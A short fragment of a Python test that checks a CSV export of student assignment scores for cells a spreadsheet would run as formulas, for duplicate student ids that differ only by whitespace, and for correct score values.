    assert not formulas, f"CSV cells a spreadsheet runs as formulas: {formulas}"
    ps = batch.subs[0].assignment
    stripped = [r["student_id"].strip() for r in rows if r["assignment"] == ps]
    assert len(stripped) == len(set(stripped)), "two rows whose student ids differ by spaces"
    for name, score in batch.scores.items():
        assert got.get((name, batch.subs[0].assignment)) == score, (name, score)
